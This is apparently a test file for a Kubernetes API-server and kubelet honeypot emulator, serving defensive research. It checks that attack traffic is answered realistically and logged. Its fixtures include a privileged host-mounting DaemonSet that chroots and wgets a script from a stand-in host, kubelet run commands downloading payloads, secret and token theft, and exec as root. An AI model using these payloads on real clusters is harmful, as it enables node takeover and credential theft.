import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import type { Persona } from '../../core/persona.ts';
import { parseJson, textAt, textsOf, valueAt } from '../../wire/json-value.ts';
import { kubernetes } from './kubernetes.ts';

const run = promisify(execFile);
const curl = async (...words: string[]): Promise<string> =>
  (await run('curl', ['-s', '-m', '10', ...words])).stdout;
const cluster = (details: Record<string, string> = { anonymous: 'cluster-admin' }): Persona =>
  personaWith({ kubernetes: { product: 'Kubernetes', version: 'v1.24.17', details } });
const send = (method: string, path: string, body = '', ...headers: string[]): string =>
  `${method} ${path} HTTP/1.1\r\nHost: a\r\n${headers.map((line) => `${line}\r\n`).join('')}${body === '' ? '' : `Content-Length: ${body.length}\r\n`}\r\n${body}`;

describe('the API server', () => {
  it('forbids an anonymous client what a fresh cluster forbids, in its words', () => {
    const { text } = talk(kubernetes, cluster({ anonymous: 'none' }), [
      octetsOf(
        send('GET', '/version') +
          send('GET', '/api/v1/namespaces/default/secrets') +
          send('GET', '/') +
          send('GET', '/apis/apps/v1/deployments/x') +
          send('GET', '/api', '', 'Authorization: Bearer x'),
      ),
    ]);
    expect(text).toContain('"gitVersion": "v1.24.17"');
    expect(text).toContain(
      'secrets is forbidden: User \\"system:anonymous\\" cannot list resource \\"secrets\\" in API group \\"\\" in the namespace \\"default\\"',
    );
    expect(text).toContain(
      '"message":"forbidden: User \\"system:anonymous\\" cannot get path \\"/\\"","reason":"Forbidden","details":{},"code":403}',
    );
    expect(text).toContain(
      'deployments \\"x\\" is forbidden: User \\"system:anonymous\\" cannot get resource \\"deployments\\" in API group \\"apps\\" at the cluster scope',
    );
    expect(text).toContain('"message":"Unauthorized","reason":"Unauthorized","code":401}');
  });

  needTools(['curl'])(
    'hands out a service account by its secret, and lets in whoever comes back with it',
    async () => {
      await using open = await serveDecoy(kubernetes, cluster());
      const secrets = parseJson(
        await curl(`http://127.0.0.1:${open.port}/api/v1/namespaces/kube-system/secrets`),
      );
      const token = Buffer.from(textAt(secrets, 'items', 0, 'data', 'token'), 'base64').toString();
      expect(token).toMatch(/^eyJ/);
      await using closed = await serveDecoy(kubernetes, cluster({ anonymous: 'none' }));
      const pods = await curl(
        '-H',
        `Authorization: Bearer ${token}`,
        `http://127.0.0.1:${closed.port}/api/v1/pods`,
      );
      expect(pods).toContain('"kind": "PodList"');
      expect(closed.facts).toContainEqual(
        expect.objectContaining({
          kind: 'auth',
          user: 'system:serviceaccount:kube-system:deployer',
          accepted: true,
        }),
      );
      expect(closed.facts).toContainEqual(
        expect.objectContaining({
          kind: 'exploit',
          name: 'planted-credential',
          detail: 'token planted in a service account for 127.0.0.1',
        }),
      );
      expect([...open.errors, ...closed.errors]).toEqual([]);
    },
  );

  it('keeps a workload that takes over the node, and finds what it would fetch', () => {
    const spec = {
      hostPID: true,
      containers: [
        {
          name: 'x',
          image: 'alpine',
          command: ['sh', '-c', 'chroot /host sh -c "wget http://198.51.100.7/k.sh"'],
          securityContext: { privileged: true },
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    };
    const daemonSet = JSON.stringify({
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'kube-controller' },
      spec: { template: { spec } },
    });
    const path = '/apis/apps/v1/namespaces/kube-system/daemonsets';
    const { facts, text, outputs } = talk(kubernetes, cluster(), [
      octetsOf(send('POST', path, daemonSet) + send('POST', path, daemonSet) + send('GET', path)),
    ]);
    expect(text).toContain('HTTP/1.1 201 Created');
    expect(text).toContain('daemonsets.apps \\"kube-controller\\" already exists');
    expect(text).toContain('"kind":"DaemonSetList"');
    expect(facts[0]).toMatchObject({
      kind: 'exploit',
      name: 'kubernetes-node-takeover',
      detail: 'DaemonSet of alpine: privileged, hostPath /, hostPID',
    });
    expect(facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toContain(
      'http://198.51.100.7/k.sh',
    );
    expect(outputs.some((output) => output.do === 'capture' && output.how === 'kubernetes-manifest')).toBe(
      true,
    );
  });

  it('runs a command for a WebSocket client, and wants an upgrade from others', async () => {
    await using served = await serveDecoy(kubernetes, cluster());
    const base = `127.0.0.1:${served.port}/api/v1/namespaces/default/pods`;
    const listed: unknown = await (await fetch(`http://${base}`)).json();
    const pod = textAt(parseJson(JSON.stringify(listed)), 'items', 0, 'metadata', 'name');
    const refused = await (await fetch(`http://${base}/${pod}/exec?command=id`)).text();
    expect(refused).toContain('Upgrade request required');
    const socket = new WebSocket(
      `ws://${base}/${pod}/exec?command=sh&command=-c&command=${encodeURIComponent('id; exit 3')}&stdout=1`,
      'v4.channel.k8s.io',
    );
    socket.binaryType = 'arraybuffer';
    const channels: string[] = ['', '', '', ''];
    socket.addEventListener('message', ({ data }) => {
      if (!(data instanceof ArrayBuffer)) return;
      const bytes = Buffer.from(data);
      channels[bytes[0] ?? 0] += bytes.toString('utf8', 1);
    });
    await once(socket, 'close');
    expect(channels[1]).toContain('uid=0(root)');
    expect(valueAt(parseJson(channels[3] ?? ''), 'details', 'causes', 0)).toEqual({
      reason: 'ExitCode',
      message: '3',
    });
    expect(served.facts.filter((fact) => fact.kind === 'exploit').map((fact) => fact.name)).toEqual([
      'kubernetes-exec',
      'kubernetes-exec',
    ]);
    expect(served.errors).toEqual([]);
  });

  it('knows an upgrade through the aggregation layer by its number', () => {
    const { facts } = talk(kubernetes, cluster(), [
      octetsOf(
        send('GET', '/apis/metrics.k8s.io/v1beta1/pods', '', 'Connection: upgrade', 'Upgrade: websocket'),
      ),
    ]);
    expect(facts[0]).toMatchObject({ kind: 'exploit', cves: ['CVE-2018-1002105'] });
  });
});

describe('the kubelet', () => {
  needTools(['curl'])('lists its pods and runs commands in them', async () => {
    await using served = await serveDecoy(kubernetes, cluster({ role: 'kubelet' }));
    const base = `http://127.0.0.1:${served.port}`;
    const pods = parseJson(await curl(`${base}/pods`));
    const name = textAt(pods, 'items', 0, 'metadata', 'name');
    const place = `${base}/run/${textAt(pods, 'items', 0, 'metadata', 'namespace')}/${name}/${textAt(pods, 'items', 0, 'spec', 'containers', 0, 'name')}`;
    expect(await curl('-XPOST', place, '-d', 'cmd=id')).toContain('uid=0(root)');
    await curl('-XPOST', place, '-d', 'cmd=wget http://198.51.100.9/x -O /tmp/x');
    expect(await curl(`${base}/healthz`)).toBe('ok');
    expect(await curl(`${base}/metrics`)).toContain('kubelet_running_pods');
    expect(await curl(`${base}/runningpods/`)).toContain(name);
    expect(await curl(`${base}/nothing`)).toBe('404 page not found\n');
    const commands = served.facts.flatMap((fact) => (fact.kind === 'command' ? [fact.input] : []));
    expect(commands).toContain('id');
    expect(
      served.facts.flatMap((fact) => (fact.kind === 'command' ? textsOf(fact.urls?.[0] ?? '') : [])),
    ).toContain('http://198.51.100.9/x');
    expect(served.errors).toEqual([]);
  });

  it('on its read-only port runs nothing', () => {
    const { text } = talk(
      kubernetes,
      cluster(),
      [octetsOf(send('POST', '/run/a/b/c', 'cmd=id') + send('GET', '/pods'))],
      { port: 10_255 },
    );
    expect(text).toContain('404 page not found');
    expect(text).toContain('"kind":"PodList"');
  });
});

it('gives the same for any split of any bytes', () => {
  for (const port of [6_443, 10_250]) {
    holdsForAnyBytes(
      kubernetes,
      cluster,
      [
        octetsOf(send('GET', '/api/v1/pods')),
        octetsOf(send('GET', '/apis')),
        octetsOf(
          send(
            'POST',
            '/api/v1/namespaces/default/pods',
            '{"metadata":{"name":"x"},"spec":{"containers":[{"command":["id"]}]}}',
          ),
        ),
        octetsOf(send('DELETE', '/api/v1/namespaces/default/pods/x')),
        octetsOf(
          send(
            'GET',
            '/api/v1/namespaces/default/pods/x/exec?command=id',
            '',
            'Upgrade: websocket',
            'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
          ),
        ),
        octetsOf(send('POST', '/run/default/x/y', 'cmd=id')),
        octetsOf(send('GET', '/runningpods/')),
      ],
      { port },
    );
  }
});
